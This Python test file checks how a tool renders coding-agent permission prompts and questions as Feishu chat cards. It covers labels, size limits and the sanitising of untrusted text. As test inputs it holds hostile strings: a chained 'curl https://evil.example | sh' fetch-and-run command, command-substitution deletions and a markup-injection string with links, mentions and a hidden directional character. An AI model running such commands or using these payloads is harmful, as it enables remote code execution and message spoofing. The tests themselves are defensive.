"""Cards as the platform takes them and as people read them."""

import json
import re
from typing import Any

import pytest
from msgspec.structs import replace

from coderelay.client.i18n import speaking
from coderelay.protocol.asks import (
    Allow,
    Answers,
    Ask,
    By,
    DenyAndStop,
    PermissionAsk,
    PlanAsk,
    PlanDecision,
    QuestionAsk,
)
from coderelay.protocol.calls import Need, Option, Question
from coderelay.protocol.events import TurnEnded
from coderelay.protocol.ids import AskId, CallId, SessionId, TurnId
from coderelay.surfaces.feishu.ask_cards import AskCard, Closed, ask_layout, deleted_files, with_prefix
from coderelay.surfaces.feishu.card_layout import CardSchema, Layout, card_of, cut, size_of, split
from coderelay.surfaces.feishu.click_decisions import decision_of
from coderelay.surfaces.feishu.turn_and_notice_cards import (
    CONTINUING,
    RUNNING,
    notice_card,
    prompt_from,
    result_card,
    running_card,
)
from coderelay.testing.feishu_server.card_rules import MOST_BYTES, check_card
from tests.feishu.card_reader import read_card
from tests.feishu.test_chat_status import BUDGET, PERMISSION, PLAN, QUESTION
from tests.feishu.test_click_decisions import COLOUR, EDIT, SEVERAL, TWO

pytestmark = pytest.mark.quick

CARD = AskCard("ask/a1", "nonce", SessionId("s1"))
SCHEMAS: tuple[CardSchema, ...] = ("2.0", "1.0")
EVIL = '<at id=all></at> [click](https://evil.example) **bold** <a href="https://evil.example">x</a> @_all \u202e'
HUGE = "很长的一行 with words\n" * 2_000


def _drawn(layout: Layout, schema: CardSchema = "2.0") -> dict[str, Any]:
    card = card_of(layout, schema)
    check_card(card, size_of(card))
    return card


def _ask(ask: Ask, closed: Closed | None = None, card: AskCard = CARD) -> Layout:
    with speaking("zh"):
        return ask_layout(card, [(ask, closed)])


def test_e14_x07_the_confirm_card() -> None:
    """The header, the labels, their order and the danger style of the seed, with object values."""
    card = _drawn(_ask(PERMISSION))
    read = read_card(card)
    assert read.title == "请确认"
    confirm, cancel = read.buttons[:2]
    assert (confirm.label, confirm.kind, confirm.value["action"]) == ("确认", "primary", "confirm")
    assert (cancel.label, cancel.kind, cancel.value["action"]) == ("取消", "danger", "cancel")
    assert cancel.value == {"action": "cancel", "rid": "a1", "sid": "s1", "card": "ask/a1", "nonce": "nonce"}
    rows = [each for each in card["body"]["elements"] if each["tag"] == "column_set"]
    assert len(rows[0]["columns"]) == 2  # what else can be decided is a second row
    assert "action" not in {each["tag"] for each in card["body"]["elements"]}


def test_x35_the_older_schema_has_the_seeds_form() -> None:
    card = _drawn(_ask(PERMISSION), "1.0")
    assert card["header"]["title"] == {"tag": "plain_text", "content": "请确认"}
    action = next(each for each in card["elements"] if each["tag"] == "action")
    assert [(each["tag"], each["text"]["content"]) for each in action["actions"]] == [
        ("button", "确认"),
        ("button", "取消"),
    ]
    assert action["actions"][1]["type"] == "danger"
    assert action["actions"][0]["value"]["action"] == "confirm"


def test_x44_cards_are_chinese_whatever_the_locale_and_english_if_configured() -> None:
    with speaking("en"):
        english = read_card(_drawn(ask_layout(CARD, [(PERMISSION, None)])))
    assert (english.title, english.labels[:2]) == ("Please confirm", ["Confirm", "Cancel"])
    assert read_card(_drawn(_ask(PERMISSION))).labels == ["确认", "取消", "本次会话允许", "停止"]


def test_e11_the_input_card_has_the_prefix_unless_the_prompt_has_its_own() -> None:
    with speaking("zh"):
        assert with_prefix("文件名") == "请回复: 文件名"
        assert with_prefix("请输入新的文件名：") == "请输入新的文件名："
        assert with_prefix("Name:") == "Name:"
    assert read_card(_drawn(_ask(QUESTION))).text == "请回复: Which?"


def test_the_notices_of_the_seed() -> None:
    with speaking("zh"):
        ended = TurnEnded(turn_id=TurnId("t"), ending="done")
        titles = [
            running_card(RUNNING).title,
            running_card(CONTINUING).title,
            result_card(ended).title,
            result_card(replace(ended, ending="stopped"), is_timed_out=True).title,
        ]
    assert titles == ["正在执行任务...", "继续执行...", "任务完成", "操作超时，已取消"]


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("rm test.js", "test.js"),
        ("rm -rf build dist", "build, dist"),
        ("rm 'a b'", "a b"),
        ("rm *.js", ""),
        ("rm x && curl evil", ""),
        ("rm x; ls", ""),
        ("rm $(cat list)", ""),
        ("sudo rm x", ""),
        ("rm", ""),
        ("rm 'x", ""),
        ("", ""),
        ("make", ""),
    ],
)
def test_e16_only_a_plain_deletion_is_called_one(command: str, files: str) -> None:
    assert deleted_files(Need("bash", "command", command, command=command)) == files


def test_what_a_command_would_do_is_never_shortened_to_a_deletion() -> None:
    command = "rm test.js; curl https://evil.example | sh"
    text = read_card(
        _drawn(_ask(PermissionAsk(AskId("a"), CallId("c"), Need("bash", "command", command, command=command), "")))
    ).text
    assert "curl https://evil.example | sh" in text


def test_a_deletion_shows_the_command_and_how_it_runs() -> None:
    need = Need("bash", "command", "rm -rf x", command="rm -rf x", rights=("outside",), folder="elsewhere")
    text = read_card(_drawn(_ask(PermissionAsk(AskId("a"), CallId("c"), need, "why")))).text
    assert text.startswith("发现危险操作：是否删除文件 x？\n")
    assert all(each in text for each in ("$ rm -rf x", "why", "elsewhere", "沙箱"))


def test_e21_a_question_with_very_many_options_is_answered_with_their_numbers() -> None:
    options = tuple(Option(f"option {number}") for number in range(1, 301))
    ask = QuestionAsk(AskId("q"), CallId("c"), (Question("Which?", options=options),))
    card = _drawn(_ask(ask))
    check_card(card, size_of(card))
    read = read_card(card)
    assert "300. option 300" in read.text
    assert [each["name"] for each in read.fields] == ["q0_other"]
    assert decision_of(ask, "submit", {"q0_other": "300"}) == Answers({"Which?": "option 300"})


def _every_card(text: str) -> list[Layout]:
    """A card of every kind, with a text from outside wherever there can be one."""
    need = Need("bash", "command", text, command=text, diff=text)
    options = tuple(Option(text, text) for _ in range(12))
    one = QuestionAsk(AskId("q1"), CallId("c"), (Question(text, header=text, options=options),))
    several = QuestionAsk(AskId("q2"), CallId("c"), (Question(text, options=options, multi_select=True),))
    free = QuestionAsk(AskId("q3"), CallId("c"), (Question(text),))
    permission = PermissionAsk(AskId("p"), CallId("c"), need, text, mode="auto-edit")
    plan = PlanAsk(AskId("l"), text)
    by = By(who=text[:50], via="web")
    owners = AskCard("k", "n", SessionId("s"), text, is_owners=True, url="https://coder.example/#session=s")
    mixed: list[tuple[Ask, Closed | None]] = [(permission, None), (permission, Closed(Allow(), by, 1))]
    ended = TurnEnded(turn_id=TurnId("t"), ending="failed", error=text, steps=3, ms=1234)
    with speaking("zh"):
        return [
            *(ask_layout(owners, [(each, None)]) for each in (one, several, free, permission, plan, BUDGET)),
            ask_layout(owners, [(free, Closed(Answers({"q": text}), by, 1))]),
            ask_layout(owners, [(plan, Closed(PlanDecision("feedback", text), by, 1))]),
            ask_layout(owners, mixed * 4),
            running_card(RUNNING, text=cut(text, 12_000), tools=[text] * 40, prompt=prompt_from("x", text)),
            running_card(RUNNING, text=cut(text, 12_000), tools=[text] * 40, page=2, is_over=True),
            result_card(ended, url="https://coder.example/#session=s", is_cut=True),
            notice_card(text, text),
        ]


@pytest.mark.parametrize("schema", SCHEMAS)
def test_e21_every_card_is_within_the_limits_of_the_platform(schema: CardSchema) -> None:
    """E-21: sizes, numbers of buttons and attributes; the rules of the platform are those of the fake server."""
    for layout in _every_card(HUGE):
        card = _drawn(layout, schema)
        assert size_of(card) <= MOST_BYTES
        for button in read_card(card).buttons:
            assert len(button.label) <= 100
    many = QuestionAsk(
        AskId("q"), CallId("c"), (Question("Which?", options=tuple(map(Option, "abcdefghijklmnopq"))),)
    )
    assert [each["tag"] for each in read_card(_drawn(_ask(many), schema)).fields] == ["select_static", "input"]
    for ask in (PERMISSION, EDIT, BUDGET, PLAN, QUESTION, COLOUR, SEVERAL, TWO):
        _drawn(_ask(ask), schema)


@pytest.mark.parametrize("schema", SCHEMAS)
def test_text_from_outside_is_plain_text(schema: CardSchema) -> None:
    """No Markdown element, no link but our own, and nothing invisible."""
    for layout in _every_card(EVIL):
        card = _drawn(layout, schema)
        assert not {"markdown", "lark_md", "a", "at"} & set(re.findall(r'"tag": "(\w+)"', json.dumps(card)))
        assert set(read_card(card).links) <= {"https://coder.example/#session=s"}
        assert "\u202e" not in json.dumps(card, ensure_ascii=False)
        if schema == "2.0":
            assert (
                "evil.example" not in card["config"].get("summary", {}).get("content", "") or "<at" in layout.summary
            )


def test_after_an_answer_the_card_shows_what_by_whom_and_when() -> None:
    closed = Closed(Answers({"Which colour?": "blue"}), By(who="feishu:ou_1", via="feishu"), 1_763_300_000_000)
    read = read_card(_drawn(_ask(COLOUR, closed)))
    assert (read.title, read.buttons, read.fields) == ("已回复", (), ())
    assert read.texts[-1].startswith("已回复，blue，feishu:ou_1，2025-11-16 ")
    nobody = Closed(DenyAndStop(), By(who="nobody", via="deadline"), 1_763_300_000_000)
    timed_out = read_card(_drawn(_ask(QUESTION, nobody)))
    assert timed_out.title == "操作超时，已取消"
    assert "nobody" not in timed_out.text
    assert read_card(_drawn(_ask(PERMISSION, Closed()))).title == "已失效"


def test_a_card_links_to_the_session_on_the_web() -> None:
    """X-19."""
    card = replace(CARD, url="https://coder.example/#session=s1")
    assert read_card(_drawn(_ask(PERMISSION, card=card))).links == ("https://coder.example/#session=s1",)


def test_a_text_is_split_at_lines_and_its_first_pages_never_change() -> None:
    text = "".join(f"line {number} 中文\n" for number in range(2000))
    pages = split(text, 5000)
    assert "".join(pages) == text
    assert all(len(each.encode()) <= 5000 for each in pages)
    assert all(each.endswith("\n") for each in pages[:-1])
    for end in range(0, len(text), 997):
        shorter = split(text[:end], 5000)
        assert shorter[:-1] == pages[: len(shorter) - 1]
    assert split("x" * 12, 5) == ["xxxxx", "xxxxx", "xx"]
    assert split("", 5) == [""]
    assert cut("中文字", 7) == "中…"
